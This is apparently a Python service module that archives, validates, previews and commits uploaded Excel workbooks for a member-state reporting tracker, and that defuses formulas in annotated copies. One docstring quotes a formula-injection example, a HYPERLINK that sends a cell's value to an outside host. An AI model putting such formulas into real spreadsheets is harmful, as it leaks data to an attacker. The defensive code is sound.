"""Receiving a workbook: archive it, check it in full, preview the changes, commit them at once.

Every file is archived by its SHA-256 under STORAGE_DIR/archive, refused ones too, and an
``Upload`` row records who, when, which state and period, the outcome, the counts and every
problem found. The web upload, the inbox scan and the CLI all come through ``receive``.
"""

from __future__ import annotations

import functools
import gc
import hashlib
import io
import os
import tempfile
import threading
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path
from typing import TYPE_CHECKING, Any, ParamSpec, TypeVar

from openpyxl.formatting.formatting import ConditionalFormattingList
from sqlalchemy.exc import IntegrityError
from sqlmodel import Session, col, select

from app.accounts.services import Viewer
from app.audit.services import record_event, set_actor
from app.imports import checks
from app.imports.models import ImportCommit, Upload
from app.imports.reader import Problem, read_workbook
from app.imports.safety import FileRefused, Limits, inspect_xlsx
from app.imports.template import TemplateRow, build_template
from app.plan.models import Indicator, MemberState, ReportingPeriod
from app.progress import submissions as subs
from app.progress.models import IndicatorValue, Submission
from app.progress.services import VALUE_FIELDS, ValueInput, record_indicator_values
from app.timeutil import utcnow
from app.validation import NotFound, number_as_typed

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell
    from openpyxl.workbook import Workbook
    from openpyxl.worksheet.datavalidation import DataValidation

# The inbox scan acts for the system, with a manager's reach; its changes carry no user id.
SYSTEM_VIEWER = Viewer(None, frozenset({"rso_manager"}), None, "imports inbox")


# A report's version when it is opened: what a preview made before the report existed saw.
FIRST_VERSION: int = Submission.model_fields["version"].default


STALE = (
    "The report was changed after this preview (by another upload or on the web). "
    "Upload the workbook again to see the new changes."
)


class CommitRefused(Exception):
    """The preview can no longer be applied (already loaded, report changed, not allowed)."""


@dataclass
class Change:
    """One line of the preview: a new row, or one changed field, old and new as typed."""

    code: str
    title: str
    field: str
    old: Any
    new: Any


_P = ParamSpec("_P")
_R = TypeVar("_R")
_gc_lock = threading.Lock()
_gc_pauses = 0
_gc_was_enabled = False


def _without_cyclic_gc(function: Callable[_P, _R]) -> Callable[_P, _R]:
    """Run a bulk step with Python's cycle collector paused, and restore it after.

    A 20,000-row workbook makes a few hundred thousand short-lived lists, rows and dicts, none
    of them in a reference cycle; each allocation burst sets off collections that walk every
    object the app holds (its modules, tens of megabytes), which cost a sixth of an import.
    Reference counting still frees everything as it goes. Pauses nest and overlap safely
    across threads: the first step in pauses, the last one out resumes.
    """

    @functools.wraps(function)
    def paused(*args: _P.args, **kwargs: _P.kwargs) -> _R:
        global _gc_pauses, _gc_was_enabled
        with _gc_lock:
            if _gc_pauses == 0:
                _gc_was_enabled = gc.isenabled()
                gc.disable()
            _gc_pauses += 1
        try:
            return function(*args, **kwargs)
        finally:
            with _gc_lock:
                _gc_pauses -= 1
                if _gc_pauses == 0 and _gc_was_enabled:
                    gc.enable()

    return paused


def archive_path(storage_dir: str | Path, file_sha256: str) -> Path:
    return Path(storage_dir) / "archive" / f"{file_sha256}.xlsx"


def _archive(storage_dir: str | Path, data: bytes, file_sha256: str) -> str:
    """Keep the file exactly as received, under a generated name (never the user's)."""
    target = archive_path(storage_dir, file_sha256)
    if not target.exists():
        target.parent.mkdir(parents=True, exist_ok=True)
        handle, temporary = tempfile.mkstemp(dir=target.parent, suffix=".part")
        with os.fdopen(handle, "wb") as stream:
            stream.write(data)
        os.replace(temporary, target)
    return target.name


def _display_name(name: str) -> str:
    """The original name for display only: no path, no control characters, bounded."""
    base = name.replace("\\", "/").rsplit("/", 1)[-1]
    cleaned = "".join(ch for ch in base if ch.isprintable())
    return cleaned[:255] or "unnamed.xlsx"


def template_for(session: Session, state: MemberState, period: ReportingPeriod) -> bytes:
    """The workbook to fill for a state and period, prefilled with last approved values."""
    indicators = subs.reported_indicators(session, state.id, period)
    last = _last_approved(session, state.id, [i.id for i in indicators], period)
    rows = [TemplateRow(i, last.get(i.id)) for i in indicators]
    return build_template(state, period, rows, generated_at=utcnow())


def _last_approved(
    session: Session, state_id: int, indicator_ids: list[int], period: ReportingPeriod
) -> dict[int, float | str | None]:
    rows = session.exec(
        select(IndicatorValue, ReportingPeriod.start_date)
        .join(ReportingPeriod)
        .join(Submission, col(Submission.id) == IndicatorValue.submission_id)
        .where(
            IndicatorValue.member_state_id == state_id,
            col(IndicatorValue.indicator_id).in_(indicator_ids),
            Submission.status == "approved",
            ReportingPeriod.start_date < period.start_date,
        )
        .order_by(ReportingPeriod.start_date)
    ).all()
    latest: dict[int, float | str | None] = {}
    for value, _start in rows:
        latest[value.indicator_id] = value.text_value if value.text_value else value.value
    return latest


@_without_cyclic_gc
def receive(
    session: Session,
    data: bytes,
    original_name: str,
    viewer: Viewer | None,
    *,
    storage_dir: str | Path,
    limits: Limits,
    source: str = "web",
) -> Upload:
    """Archive and check a workbook. Returns the Upload: refused, unchanged, or previewed."""
    file_sha256 = hashlib.sha256(data).hexdigest()
    upload = Upload(
        uploaded_by_id=viewer.user_id if viewer else None,
        source=source,
        original_name=_display_name(original_name),
        file_sha256=file_sha256,
        size_bytes=len(data),
        stored_name=_archive(storage_dir, data, file_sha256),
        outcome="refused",
    )
    session.add(upload)
    if not original_name.lower().endswith(".xlsx"):
        return _refuse(
            session,
            upload,
            [
                Problem(
                    "",
                    "",
                    (
                        "Only .xlsx workbooks are accepted; this file is named "
                        f"'{upload.original_name}'. Save it as 'Excel Workbook (.xlsx)'."
                    ),
                )
            ],
        )
    try:
        facts = inspect_xlsx(data, limits)
        parsed = read_workbook(data, facts, limits)
    except FileRefused as refused:
        return _refuse(session, upload, [Problem("", "", str(refused))])
    if parsed.problems:
        return _refuse(session, upload, parsed.problems)
    states = {s.code: s for s in session.exec(select(MemberState)).all()}
    periods = {p.code: p for p in session.exec(select(ReportingPeriod)).all()}
    state, period, problems = checks.check_metadata(parsed, states, periods)
    if problems:
        return _refuse(session, upload, problems)
    if _reports_elsewhere(viewer, state):
        # Not filed under the state the workbook names: that state's focal points would see
        # it in their history and could open it. It stays the sender's (and the managers').
        return _refuse(
            session,
            upload,
            [
                Problem(
                    "",
                    "",
                    (
                        f"This workbook is for {state.name}; you report for another member state. "
                        "Download your own state's template."
                    ),
                )
            ],
        )
    upload.member_state_id, upload.reporting_period_id = state.id, period.id
    report = _report_of(session, state.id, period.id)
    refusal = subs.edit_refusal(
        viewer or SYSTEM_VIEWER, state.id, period, report.status if report else None
    )
    if refusal:  # said now, not after a preview whose Load button could only fail
        return _refuse(session, upload, [Problem("", "", refusal)])
    reported = checks.reported_indicators(session, state.id, period)
    checked = checks.check_rows(
        parsed, state, period, reported, lambda codes: _codes_in_plan(session, codes)
    )
    del reported
    # Problems met while reading a row (a formula with no value) come first, as they are read.
    problems = parsed.problems + checked.problems
    if problems:
        return _refuse(session, upload, problems)
    return _preview(session, upload, state, period, checked, report)


def _reports_elsewhere(viewer: Viewer | None, state: MemberState) -> bool:
    """Only managers (and the inbox, which acts as one) send workbooks for any state."""
    if viewer is None or viewer.has("rso_manager"):
        return False
    return viewer.member_state_id != state.id


def _report_of(session: Session, state_id: int, period_id: int) -> Submission | None:
    """The state's report for the period if one was opened; never opens one."""
    return session.exec(
        select(Submission).where(
            Submission.member_state_id == state_id,
            Submission.reporting_period_id == period_id,
        )
    ).first()


def _codes_in_plan(session: Session, codes: set[str]) -> set[str]:
    found: set[str] = set()
    names = sorted(codes)
    for start in range(0, len(names), 5000):
        found.update(
            session.exec(
                select(Indicator.code).where(col(Indicator.code).in_(names[start : start + 5000]))
            ).all()
        )
    return found


def _refuse(session: Session, upload: Upload, problems: list[Problem]) -> Upload:
    upload.outcome = "refused"
    upload.problems = [p.as_dict() for p in problems]
    session.add(upload)
    session.flush()
    return upload


def _preview(
    session: Session,
    upload: Upload,
    state: MemberState,
    period: ReportingPeriod,
    checked: checks.CheckedWorkbook,
    report: Submission | None,
) -> Upload:
    """Count what loading would change; writes the upload only (the report is opened by the
    load: a preview is a look, and a draft it left behind would show as started)."""
    current = _current_values(session, state.id, period.id)
    counts = {"new": 0, "changed": 0, "unchanged": 0, "ignored": checked.ignored_rows}
    for entry in checked.entries:
        stored = current.get(entry.indicator_id)
        if stored is None:
            counts["new"] += 1
        elif _differences(stored, entry):
            counts["changed"] += 1
        else:
            counts["unchanged"] += 1
    rows = checks.stored_rows(checked.entries)
    checked.entries.clear()  # the stored rows are all that is kept
    upload.content_hash = checks.content_hash(state, period, rows)
    upload.submission_id = report.id if report else None
    upload.base_version = report.version if report else FIRST_VERSION
    upload.counts = counts
    upload.rows = rows
    upload.outcome = "previewed" if counts["new"] or counts["changed"] else "unchanged"
    session.add(upload)
    session.flush()
    return upload


def _report_to_load(session: Session, upload: Upload, viewer: Viewer) -> Submission:
    """The state's report, locked until the load commits; opened now if there is none yet."""
    report = _report_of(session, upload.member_state_id, upload.reporting_period_id)
    if report is None:
        period = session.get(ReportingPeriod, upload.reporting_period_id)
        refusal = subs.edit_refusal(viewer, upload.member_state_id, period, None)
        if refusal:
            raise CommitRefused(refusal)
        report = subs.open_submission(
            session, upload.member_state_id, upload.reporting_period_id, viewer
        )
    return subs.get_submission(session, report.id, viewer, for_update=True)


def _current_values(session: Session, state_id: int, period_id: int) -> dict[int, Any]:
    """The state's stored values for the period, as light rows, by indicator id."""
    table = IndicatorValue.__table__  # type: ignore[attr-defined]
    rows = session.connection().execute(
        select(table.c.indicator_id, *[table.c[name] for name in VALUE_FIELDS]).where(
            table.c.member_state_id == state_id,
            table.c.reporting_period_id == period_id,
        )
    )
    return {row.indicator_id: row for row in rows}


def _comparable(value: Any) -> Any:
    if value == "":
        return None
    return value


def _differences(stored: Any, entry: checks.RowEntry) -> list[tuple[str, Any, Any]]:
    result = []
    for name in VALUE_FIELDS:
        old, new = _comparable(getattr(stored, name)), _comparable(getattr(entry, name))
        if name == "value" and stored.numerator is not None:
            continue  # a percentage's value is computed from its parts
        if old != new:
            result.append((name, old, new))
    return result


def preview_changes(session: Session, upload: Upload) -> list[Change]:
    """Each changed value with old and new, for the preview page."""
    rows = checks.rows_of(upload.rows)
    if not rows:
        return []
    current = _current_values(session, upload.member_state_id, upload.reporting_period_id)
    indicators = _titles_and_units(session, [r["indicator_id"] for r in rows])
    changes = []
    for row in rows:
        entry = checks.RowEntry(**{"row": 0, **row})
        title, unit = indicators.get(entry.indicator_id, ("", ""))
        stored = current.get(entry.indicator_id)
        if stored is None:
            changes.append(Change(entry.code, title, "new", None, _typed(unit, entry)))
            continue
        for name, old, new in _differences(stored, entry):
            changes.append(
                Change(entry.code, title, name, _shown(unit, name, old), _shown(unit, name, new))
            )
    return changes


def _titles_and_units(session: Session, ids: list[int]) -> dict[int, tuple[str, str]]:
    found: dict[int, tuple[str, str]] = {}
    for start in range(0, len(ids), 5000):
        for id_, title, unit in session.exec(
            select(Indicator.id, Indicator.title, Indicator.unit).where(
                col(Indicator.id).in_(ids[start : start + 5000])
            )
        ).all():
            found[id_] = (title, unit)
    return found


def _typed(unit: str, entry: checks.RowEntry) -> str | None:
    """A new row's answer as it was typed (a percentage has no value until it is loaded)."""
    if unit == "percentage":
        parts = (number_as_typed(entry.numerator), number_as_typed(entry.denominator))
        return " / ".join(part or "—" for part in parts)
    if entry.text_value is not None:
        return entry.text_value
    return _shown(unit, "value", entry.value)


def _shown(unit: str, name: str, value: Any) -> Any:
    """A stored field as the person typed it: a yes/no answer is kept as 1.0 or 0.0."""
    if value is None:
        return None
    if name == "value" and unit == "yes_no":
        return "Yes" if value else "No"
    if isinstance(value, int | float):
        return number_as_typed(value)
    return value


def load_refusal(session: Session, upload: Upload, viewer: Viewer) -> str | None:
    """Why this viewer could not load a previewed upload now, or None: the commit's own checks,
    read without locking, so an overtaken preview says so instead of offering its Load button."""
    if upload.outcome != "previewed":
        return None
    report = _report_of(session, upload.member_state_id, upload.reporting_period_id)
    period = session.get(ReportingPeriod, upload.reporting_period_id)
    status = report.status if report else None
    refusal = subs.edit_refusal(viewer, upload.member_state_id, period, status)
    if refusal is None and (report.version if report else FIRST_VERSION) != upload.base_version:
        refusal = STALE
    return refusal


def get_upload(session: Session, upload_id: int, viewer: Viewer) -> Upload:
    """Focal points see only their own state's uploads and the ones they sent themselves."""
    query = select(Upload).where(Upload.id == upload_id)
    if viewer.is_focal_point_only:
        query = query.where(
            (Upload.member_state_id == viewer.member_state_id)
            | (Upload.uploaded_by_id == viewer.user_id)
        )
    upload = session.exec(query).first()
    if upload is None:
        raise NotFound("upload")
    return upload


@_without_cyclic_gc
def commit(session: Session, upload: Upload, viewer: Viewer) -> int:
    """Apply a previewed upload in one transaction: all rows or none. Returns values changed."""
    if upload.outcome != "previewed":
        raise CommitRefused(
            {
                "committed": "This upload has already been loaded.",
                "unchanged": "Nothing to load: the report already holds exactly these values.",
                "refused": "This upload was refused; fix the workbook and upload it again.",
                "stale": STALE,
            }[upload.outcome]
        )
    submission = _report_to_load(session, upload, viewer)
    try:
        subs.check_may_edit(session, submission, viewer)
    except subs.Forbidden as refused:
        raise CommitRefused(str(refused)) from refused
    if submission.version != upload.base_version:
        upload.outcome = "stale"
        session.add(upload)
        session.flush()
        raise CommitRefused(STALE)
    _claim(session, upload, submission)
    upload.submission_id = submission.id
    period = session.get(ReportingPeriod, submission.reporting_period_id)
    closed_correction = period.status == "closed"
    reason = f"workbook upload {upload.id}"
    if closed_correction:
        reason += "; late correction by an RSO manager"
    # One event for the whole load, below; each value's revision is its own history.
    outcomes = record_indicator_values(
        session,
        _value_inputs(upload.rows, period.id, submission.member_state_id),
        source="upload",
        changed_by_id=viewer.user_id,
        reason=reason,
        corrected_after_close=closed_correction,
        submission_id=submission.id,
        audit_each_value=False,
    )
    changed = sum(1 for outcome in outcomes if outcome.changed)
    del outcomes
    if changed:
        submission.version += 1
        session.add(submission)
    upload.outcome = "committed"
    upload.committed_at = utcnow()
    session.add(upload)
    session.flush()
    record_event(
        session,
        "update",
        "upload",
        str(upload.id),
        {"outcome": "previewed", "submission_version": upload.base_version},
        {
            "outcome": "committed",
            "submission_id": submission.id,
            "submission_version": submission.version,
            "values_changed": changed,
            **{f"rows_{name}": count for name, count in (upload.counts or {}).items()},
            "revisions_reason": reason,
            "file_sha256": upload.file_sha256,
        },
        label=upload.original_name,
    )
    return changed


def _value_inputs(stored: list[Any] | None, period_id: int, state_id: int) -> list[ValueInput]:
    """The previewed rows as values to record."""
    if stored and not isinstance(stored[0], dict) and tuple(stored[0]) == checks.STORED_FIELDS:
        # indicator id, code, then VALUE_FIELDS: ValueInput's own order after its keys
        return [ValueInput(row[0], period_id, state_id, *row[2:]) for row in stored[1:]]
    return [
        ValueInput(
            indicator_id=row["indicator_id"],
            reporting_period_id=period_id,
            member_state_id=state_id,
            **{name: row[name] for name in VALUE_FIELDS},
        )
        for row in checks.rows_of(stored)
    ]


def _claim(session: Session, upload: Upload, submission: Submission) -> None:
    """The unique key turns a racing identical upload into a clear refusal, not doubled rows."""
    try:
        with session.begin_nested():
            session.add(
                ImportCommit(
                    submission_id=submission.id,
                    content_hash=upload.content_hash,
                    base_version=upload.base_version,
                    upload_id=upload.id,
                )
            )
    except IntegrityError as exc:
        raise CommitRefused(
            "The same data was just loaded by another upload of this "
            "workbook; nothing was loaded twice."
        ) from exc


def history(session: Session, viewer: Viewer, *, limit: int = 200) -> list[tuple[Upload, str, str]]:
    query = (
        select(Upload, MemberState.name, ReportingPeriod.code)
        .outerjoin(MemberState, col(MemberState.id) == Upload.member_state_id)
        .outerjoin(ReportingPeriod, col(ReportingPeriod.id) == Upload.reporting_period_id)
        .order_by(col(Upload.received_at).desc(), col(Upload.id).desc())
        .limit(limit)
    )
    if viewer.is_focal_point_only:
        query = query.where(
            (Upload.member_state_id == viewer.member_state_id)
            | (Upload.uploaded_by_id == viewer.user_id)
        )
    return [(u, name or "—", code or "—") for u, name, code in session.exec(query).all()]


def annotated_copy(storage_dir: str | Path, upload: Upload) -> bytes:
    """The workbook as sent, with each problem cell highlighted and commented, made inert."""
    from openpyxl import load_workbook
    from openpyxl.comments import Comment
    from openpyxl.styles import PatternFill

    data = archive_path(storage_dir, upload.file_sha256).read_bytes()
    # keep_links=False: links to other workbooks are dropped, never refreshed on opening
    workbook = load_workbook(io.BytesIO(data), keep_links=False)
    fill = PatternFill("solid", fgColor="F4B6B6")
    notes = workbook.create_sheet("Problems", 0)
    notes.append(["Sheet", "Cell", "Problem"])
    for problem in upload.problems or []:
        notes.append([problem["sheet"], problem["cell"], problem["message"]])
        sheet = problem["sheet"]
        cell = problem["cell"].split(":")[0]
        if sheet in workbook.sheetnames and cell:
            target = workbook[sheet][cell]
            target.fill = fill
            target.comment = Comment(problem["message"], "RSO Work Plan Tracker")
    _make_inert(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _make_inert(workbook: Workbook) -> None:
    """Nothing the sender wrote may run in the reader's spreadsheet program.

    The copy goes to managers as well as the sender, so a formula such as
    =HYPERLINK("http://elsewhere/?"&F4, "Click to fix") would hand the report's data to
    whoever wrote it. Every formula cell becomes the text that was typed (shown as text, like
    a cell typed with a leading apostrophe); links, named formulas and the formulas of
    conditional formats and data validations (other than a plain list) are dropped.
    """
    workbook.defined_names.clear()
    for sheet in workbook.worksheets:
        sheet.defined_names.clear()
        sheet.conditional_formatting = ConditionalFormattingList()
        validations = sheet.data_validations.dataValidation
        validations[:] = [v for v in validations if _is_plain_list(v)]
        for row in sheet.iter_rows():
            for cell in row:
                cell.hyperlink = None
                if cell.data_type == "f":
                    _formula_as_text(cell)


def _formula_as_text(cell: Cell) -> None:
    typed = cell.value if isinstance(cell.value, str) else getattr(cell.value, "text", None)
    cell.value = typed or ""
    cell.data_type = "s"  # set after the value: openpyxl reads any "=..." string as a formula
    cell.quotePrefix = True


def _is_plain_list(validation: DataValidation) -> bool:
    """A dropdown of fixed choices ('"yes,no"'), as the template makes: no formula to run."""
    return (
        validation.type == "list"
        and (validation.formula1 or "").startswith('"')
        and validation.formula2 is None
    )


def can_annotate(upload: Upload) -> bool:
    """Only files that opened as workbooks get an annotated copy (never a hostile file)."""
    return upload.outcome == "refused" and any(p.get("cell") for p in upload.problems or [])


def scan_inbox(session_factory, inbox: Path, storage_dir: str | Path, limits: Limits) -> list[str]:
    """Process every workbook dropped in the inbox; each file in its own transaction.

    A processed file is moved to inbox/processed/ (or inbox/refused/) so a rerun never loads it
    twice; a valid file is committed as the system, like a manager acting for the state.
    """
    outcomes = []
    for path in sorted(p for p in inbox.iterdir() if p.is_file() and not p.name.startswith(".")):
        data = path.read_bytes()
        with session_factory() as session:
            set_actor(session, None, "imports inbox scan")
            upload = receive(
                session,
                data,
                path.name,
                None,
                storage_dir=storage_dir,
                limits=limits,
                source="inbox",
            )
            if upload.outcome == "previewed":
                try:
                    commit(session, upload, SYSTEM_VIEWER)
                except CommitRefused as refused:
                    upload.problems = [{"sheet": "", "cell": "", "message": str(refused)}]
            outcome = upload.outcome
        folder = inbox / ("refused" if outcome == "refused" else "processed")
        folder.mkdir(exist_ok=True)
        stamp = datetime.now().strftime("%Y%m%d%H%M%S")
        os.replace(path, folder / f"{stamp}-{path.name}")
        outcomes.append(f"{path.name}: {outcome}")
    return outcomes
